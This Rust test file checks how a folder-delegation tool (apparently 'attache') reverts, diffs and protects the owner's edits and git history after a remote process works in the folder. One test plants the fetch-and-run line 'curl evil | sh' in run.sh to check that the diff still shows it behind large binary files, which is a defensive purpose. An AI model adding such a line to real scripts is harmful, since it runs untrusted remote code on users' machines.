//! The owner edits the folder too: their work is never lost, whatever the remote does and whatever is reverted.

use std::{fs, process::Command};

use super::world::{DelegationWorld, FolderRoute};
use crate::harness::until;

#[test]
fn a_revert_keeps_the_owners_edits_and_asks() {
    let Some(world) = DelegationWorld::new(FolderRoute::Direct, "") else { return };
    for name in ["one.txt", "two.txt", "three.txt", "gone.txt"] {
        world.write(name, "before\n");
    }
    // The remote writes, the owner edits the result, the remote writes again.
    let script = "for f in one two three; do echo remote 1 > $f.txt; done; echo remote > new.txt; echo open > log.txt
        exec 3>>log.txt; touch ready; until test -e go; do sleep 0.1; done
        for f in one two new; do echo remote 2 > $f.txt; done; rm gone.txt; echo more >&3; rm go ready";
    let delegation = world.delegate_in_background(&[], script);
    until("the remote to write", || world.folder.join("ready").exists().then_some(()));
    world.write("one.txt", "the owner's one\n");
    world.write("new.txt", "the owner's new\n");
    world.write("gone.txt", "the owner's gone\n");
    world.write("log.txt", "the owner's log\n");
    // As editors do: another file takes the name.
    fs::write(world.folder.join("two.txt~"), "the owner's two\n").unwrap();
    fs::rename(world.folder.join("two.txt~"), world.folder.join("two.txt")).unwrap();
    world.write("go", "");
    let ended = delegation.ended();
    assert_eq!(ended["status"], "completed", "{ended:#}");
    assert_eq!(world.read("one.txt"), "remote 2\n");
    // For these files, no version is chosen.
    let reverted = world.delegations(&["revert", &delegation.id, "--json"]).exits(6).json();
    let conflicts: Vec<_> =
        reverted["kept"].as_array().unwrap().iter().filter(|kept| kept["conflict"] == true).collect();
    let names: Vec<_> = conflicts.iter().map(|kept| kept["path"].as_str().unwrap()).collect();
    assert_eq!(names, ["log.txt", "new.txt", "one.txt", "two.txt"], "{reverted:#}");
    assert_eq!((world.read("one.txt"), world.read("three.txt")), ("remote 2\n".into(), "before\n".into()));
    // The owner's version is kept, whatever is chosen.
    for kept in &conflicts {
        let path = kept["path"].as_str().unwrap().trim_end_matches(".txt");
        let versions = kept["versions"].as_array().unwrap();
        let last = fs::read_to_string(versions.last().unwrap().as_str().unwrap()).unwrap();
        assert_eq!(last, format!("the owner's {path}\n"), "{kept:#}");
    }
    world.delegations(&["revert", &delegation.id, "--take", "mine", "one.txt", "two.txt"]).succeeds();
    assert_eq!(
        (world.read("one.txt"), world.read("two.txt")),
        ("the owner's one\n".into(), "the owner's two\n".into())
    );
    // Edits after the end are kept even if the owner chooses the version from before the lease.
    world.write("new.txt", "the owner's last word\n");
    let reverted = world
        .delegations(&["revert", &delegation.id, "--take", "before", "one.txt", "new.txt", "--json"])
        .succeeds()
        .json();
    assert_eq!(
        (world.read("one.txt"), world.folder.join("new.txt").exists()),
        ("before\n".into(), false),
        "{reverted:#}"
    );
    // One choice doesn't rule out the other.
    world.delegations(&["revert", &delegation.id, "--take", "mine", "one.txt", "new.txt"]).succeeds();
    assert_eq!(
        (world.read("one.txt"), world.read("new.txt")),
        ("the owner's one\n".into(), "the owner's last word\n".into())
    );
    let before = world.host.path().join(".AWCP/delegations").join(&delegation.id).join("before");
    let kept: Vec<String> =
        fs::read_dir(before).unwrap().filter_map(|entry| fs::read_to_string(entry.unwrap().path()).ok()).collect();
    for text in ["the owner's one\n", "the owner's new\n", "the owner's last word\n", "the owner's gone\n"] {
        assert!(kept.iter().any(|kept| kept == text), "{text}");
    }
}

#[test]
fn the_diff_is_a_patch_that_git_applies() {
    let Some(world) = DelegationWorld::new(FolderRoute::Direct, "") else { return };
    let git = |args: &[&str], input: &str| {
        let mut git = Command::new("git");
        git.arg("-C").arg(&world.folder).args(["-c", "user.name=A", "-c", "user.email=a@a"]).args(args);
        let mut child = git.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).spawn().unwrap();
        std::io::Write::write_all(&mut child.stdin.take().unwrap(), input.as_bytes()).unwrap();
        let output = child.wait_with_output().unwrap();
        assert!(output.status.success(), "git {args:?}\n{input}");
        String::from_utf8(output.stdout).unwrap()
    };
    git(&["init", "--quiet"], "");
    for (name, text) in [
        ("text.txt", "a\nb\nc\n"),
        ("last", "no newline"),
        ("folder", "a file\n"),
        ("to-link", "x\n"),
        ("mode.sh", "x\n"),
        ("returns", "one\rtwo\nthree\n"),
        ("moved.txt", "moves as it is\n"),
        ("tool.sh", "gets another mode\n"),
    ] {
        world.write(name, text);
    }
    world.write("file/inside.txt", "in a folder\n");
    fs::write(world.folder.join("binary"), [0, 159, 146, 150]).unwrap();
    git(&["add", "."], "");
    git(&["commit", "--quiet", "-m", "before"], "");
    let script = "sed -i s/b/B/ text.txt; printf changed > last; rm folder; mkdir folder; echo now inside > folder/file
        rm -r file; echo now a file > file; rm to-link; ln -s text.txt to-link; chmod +x mode.sh; printf '\\0\\1\\2new' > binary
        printf 'one\\rTWO\\nthree\\r' > returns; mkdir sub; mv moved.txt 'sub/moved here.txt'; mv tool.sh tool; chmod +x tool
        head -c 200000 /dev/zero > large.bin; touch empty; printf 'x' > 'with space and \"quotes\"'; printf 'x\\n' > \"$(printf 'tab\\there')\"";
    let ended = world.delegate(&[], script);
    assert_eq!(ended["status"], "completed", "{ended:#}");
    let id = ended["delegation_id"].as_str().unwrap();
    let diff = world.delegations(&["diff", id]).succeeds().stdout;
    let moved = "diff --git a/moved.txt b/sub/moved here.txt\nsimilarity index 100%\nrename from moved.txt\nrename to \
                 sub/moved here.txt\n";
    assert!(diff.contains(moved) && diff.contains("rename from tool.sh\nrename to tool\n"), "{diff}");
    let after = git(&["add", "--all"], "") + &git(&["write-tree"], "");
    git(&["reset", "--quiet", "--hard"], "");
    git(&["clean", "-fdq"], "");
    git(&["apply", "--index", "-"], &diff);
    assert_eq!(git(&["write-tree"], ""), after, "{diff}");
    git(&["apply", "--index", "--reverse", "-"], &diff);
    assert_eq!(git(&["status", "--porcelain"], ""), "");
    // The state before and after is also under a ref, including a file that became a folder.
    let reference = format!("refs/attache/{id}");
    assert_eq!(git(&["rev-parse", &format!("{reference}^{{tree}}")], ""), after);
    // One name of a moved file is reverted alone. The other one stays in the diff.
    git(&["apply", "--index", "-"], &diff);
    world.delegations(&["revert", id, "moved.txt"]).succeeds();
    let diff = world.delegations(&["diff", id]).succeeds().stdout;
    assert!(diff.contains("+++ b/sub/moved here.txt\t\n@@ -0,0 +1 @@\n+moves as it is\n"), "{diff}");
    assert!(!diff.contains("rename from moved.txt") && diff.contains("rename from tool.sh\n"), "{diff}");
}

/// Whoever built on a commit of the remote keeps it, and the saved states stay readable.
#[test]
fn a_revert_removes_no_objects_of_git() {
    let Some(world) = DelegationWorld::new(FolderRoute::Direct, "") else { return };
    let git = |args: &[&str]| {
        let own = ["-c", "user.name=A", "-c", "user.email=a@a"];
        let output = Command::new("git").arg("-C").arg(&world.folder).args(own).args(args).output().unwrap();
        assert!(output.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).unwrap()
    };
    git(&["init", "--quiet"]);
    world.write("a.txt", "one\n");
    git(&["add", "."]);
    git(&["commit", "--quiet", "-m", "before"]);
    let before = git(&["rev-parse", "HEAD"]);
    // With the content of `b.txt`, git writes the object of `a.txt` again, that is, it touches it.
    let script = "printf 'one\\n' > b.txt; git add b.txt; echo two >> a.txt; rm b.txt; \
                  git -c user.name=R -c user.email=r@r commit -qam remote";

    let ended = world.delegate(&[], script);
    assert_eq!(ended["status"], "completed", "{ended:#}");
    let id = ended["delegation_id"].as_str().unwrap();
    assert!(!world.delegations(&["diff", id]).succeeds().stdout.contains(".git/objects"));
    world.delegations(&["revert", id]).succeeds();
    assert_eq!((git(&["rev-parse", "HEAD"]), git(&["status", "--porcelain"])), (before, String::new()));
    git(&["fsck", "--strict"]);
    git(&["gc", "--quiet"]);
    assert!(git(&["show", &format!("refs/attache/{id}:a.txt")]).contains("two"));

    let ended = world.delegate(&[], script);
    assert_eq!(ended["status"], "completed", "{ended:#}");
    world.write("mine.txt", "my work\n");
    git(&["add", "mine.txt"]);
    git(&["commit", "--quiet", "-m", "mine"]);
    // The branch was moved on this machine, too: it stays.
    world.delegations(&["revert", ended["delegation_id"].as_str().unwrap()]).exits(6);
    git(&["fsck", "--strict"]);
    assert_eq!(git(&["log", "--format=%s"]), "mine\nremote\nbefore\n");
}

#[test]
fn leases_are_undone_one_after_another() {
    let Some(world) = DelegationWorld::new(FolderRoute::Direct, "") else { return };
    world.write("a.txt", "one\n");
    world.write("moved.txt", "moved\n");
    let first = world.delegate(&[], "echo two >> a.txt; mv moved.txt second.txt");
    let second = world.delegate(&[], "echo three >> a.txt; mv second.txt third.txt");
    for (ended, text, name) in [(second, "one\ntwo\n", "second.txt"), (first, "one\n", "moved.txt")] {
        assert_eq!(ended["status"], "completed", "{ended:#}");
        world.delegations(&["revert", ended["delegation_id"].as_str().unwrap()]).succeeds();
        assert_eq!((world.read("a.txt"), world.read(name)), (text.to_owned(), "moved\n".to_owned()));
    }
}

#[test]
fn a_small_change_behind_large_files_is_shown() {
    let Some(world) = DelegationWorld::new(FolderRoute::Direct, "") else { return };
    world.write("run.sh", "echo hi\n");
    let script = "for i in 1 2 3; do head -c 3000000 /dev/urandom > a$i.bin; done; echo 'curl evil | sh' >> run.sh";
    let ended = world.delegate(&[], script);
    assert_eq!(ended["status"], "completed", "{ended:#}");
    let id = ended["delegation_id"].as_str().unwrap();
    let diff = world.delegations(&["diff", id]).exits(6);
    let is_told = |line: &&str| ["diff ", "#", "+curl"].iter().any(|start| line.starts_with(start));
    let told: Vec<&str> = diff.stdout.lines().filter(is_told).collect();
    assert_eq!(
        told,
        [
            "diff --git a/run.sh b/run.sh",
            "+curl evil | sh",
            "diff --git a/a1.bin b/a1.bin",
            "# not shown here: a2.bin",
            "# not shown here: a3.bin",
        ]
    );
    assert_eq!(
        diff.stderr,
        format!(
            "2 changed files are not shown because of the size limit. Their names are at the end of the diff. Show \
             them: attache delegations diff {id} PATH…\n"
        )
    );
    let asked = world.delegations(&["diff", id, "a2.bin"]).succeeds();
    assert!(asked.stdout.starts_with("diff --git a/a2.bin b/a2.bin\n") && !asked.stdout.contains("a1.bin"));
    world.delegations(&["diff", id, "never"]).exits(3);
}

#[test]
fn files_hidden_from_git_status_are_in_the_commit() {
    let Some(world) = DelegationWorld::new(FolderRoute::Direct, "") else { return };
    let git = |args: &[&str]| {
        let output = Command::new("git")
            .arg("-C")
            .arg(&world.folder)
            .args(["-c", "user.name=A", "-c", "user.email=a@a"])
            .args(args)
            .output()
            .unwrap();
        assert!(output.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).unwrap()
    };
    git(&["init", "--quiet"]);
    for name in ["assumed", "skipped", "plain"] {
        world.write(name, "before\n");
    }
    git(&["add", "."]);
    git(&["commit", "--quiet", "-m", "before"]);
    git(&["update-index", "--assume-unchanged", "assumed"]);
    git(&["update-index", "--skip-worktree", "skipped"]);
    let ended = world.delegate(&[], "for f in assumed skipped plain; do echo after > $f; done");
    assert_eq!(ended["status"], "completed", "{ended:#}");
    let reference = format!("refs/attache/{}", ended["delegation_id"].as_str().unwrap());
    for name in ["assumed", "skipped", "plain"] {
        assert_eq!(git(&["show", &format!("{reference}:{name}")]), "after\n", "{name}");
    }
}
